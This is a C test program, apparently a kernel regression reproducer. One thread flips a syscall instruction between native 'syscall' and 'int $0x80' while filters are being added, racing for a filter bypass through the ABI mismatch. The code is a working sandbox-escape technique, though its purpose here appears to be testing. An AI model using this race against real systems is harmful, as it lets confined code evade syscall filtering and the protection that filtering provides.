/* While filters are added to a program, another process makes its syscall instruction an int $0x80.
 *
 * Both have two bytes, and the registers are the same. The number with which a filter is added is move_pages()
 * there, which returns 0 for no pages: their number is in rcx, where the syscall instruction has left its own
 * place, of which the low half is 0 here.
 */
#include "ablation.h"

#define PLACE 0xfffff000UL
#define AFTER 0x100000000UL
static volatile unsigned short *const instruction = (void *)(AFTER - 2);
static const unsigned short NATIVE = 0x050f, OTHER = 0x80cd;

long call(int number, long a, long b, long c, void *d);
asm("call: push %rbx; push %rbp; mov %edi, %eax; mov %rsi, %rdi; mov %rdx, %rsi; mov %rcx, %rdx; mov %r8, %r10\n"
    "xor %r8d, %r8d; xor %r9d, %r9d; xor %ebx, %ebx; xor %ebp, %ebp; mov $0xfffffffe, %r11d; call *%r11\n"
    "pop %rbp; pop %rbx; ret");

static int attempt(void)
{
    int s[2] = {-1, -1};
    long result = -1;
    for (int tries = 0; tries < 40 && result; tries++)
        result = call(SYS_socketpair, AF_UNIX, SOCK_STREAM, 0, s);
    write(s[1], "A", 1);
    write(s[1], "B", 1);
    return foreign(s[0], 'A');
}

static void flip(void)
{
    run_on(1, SCHED_OTHER);
    for (unsigned state = 1;;) {
        for (int which = 0; which < 2; which++) {
            *instruction = which ? OTHER : NATIVE;
            state = state * 1103515245 + 12345;
            for (volatile int i = (state >> 16) % 3000; i > 0; i--)
                ;
        }
    }
}

int main(void)
{
    int p[2], status;
    if (mmap((void *)PLACE, 0x2000, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) != (void *)PLACE)
        absent();
    *(unsigned char *)AFTER = 0xc3; /* ret */
    *instruction = OTHER;
    pid_t pid = fork();
    if (!pid)
        _exit(call(20 /* getpid */, 0, 0, 0, NULL) == 0);
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status)) {
        errno = ENOSYS;
        absent();
    }
    *instruction = NATIVE;
    pipe(p); /* what is added comes from a file that is mapped now */
    for (int number = 3; number < 8; number++)
        dup2(0, number);
    close(5); /* 5 and 8 are free: two filters, between which it is back in its own code */
    pid = fork();
    if (!pid) {
        end_with_maker();
        flip();
    }
    run_on(0, SCHED_OTHER);
    try_again_for(10, attempt, "each filter was added");
}
